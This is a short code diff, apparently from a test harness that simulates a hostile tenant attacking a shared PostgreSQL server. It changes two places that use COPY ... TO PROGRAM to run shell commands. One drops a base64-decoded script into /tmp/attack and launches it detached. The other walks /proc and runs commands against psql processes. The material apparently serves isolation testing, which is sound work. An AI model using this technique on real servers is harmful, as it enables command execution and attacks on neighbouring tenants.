@@ -49,7 +49,7 @@ async function start(attacker: Attacker, script: string): Promise<void> {
   // In base64 nothing needs quoting.
   const encoded = Buffer.from(script).toString("base64");
   const command = `echo ${encoded} | base64 -d >/tmp/attack; setsid bash /tmp/attack </dev/null >/dev/null 2>&1 &`;
-  await query(attacker, `COPY (SELECT '') TO PROGRAM ${escapeLiteral(command)}`);
+  await query(attacker, `COPY (SELECT '' WHERE false) TO PROGRAM ${escapeLiteral(command)}`);
 }
 
 /** Waits until the tenant itself gets in no more, which shows that the attack is under way. */
@@ -77,7 +77,7 @@ const forEachPsql = (command: string): string => {
   const script = `for process in /proc/[0-9]*; do
     case $(tr "\\0" " " <$process/cmdline) in psql*) ${command} ;; esac
   done 2>/dev/null`;
-  return `COPY (SELECT '') TO PROGRAM ${escapeLiteral(script)};`;
+  return `COPY (SELECT '' WHERE false) TO PROGRAM ${escapeLiteral(script)};`;
 };
 
 /** What a tenant does to whoever asks its server: the operator's commands, and so its neighbours. */
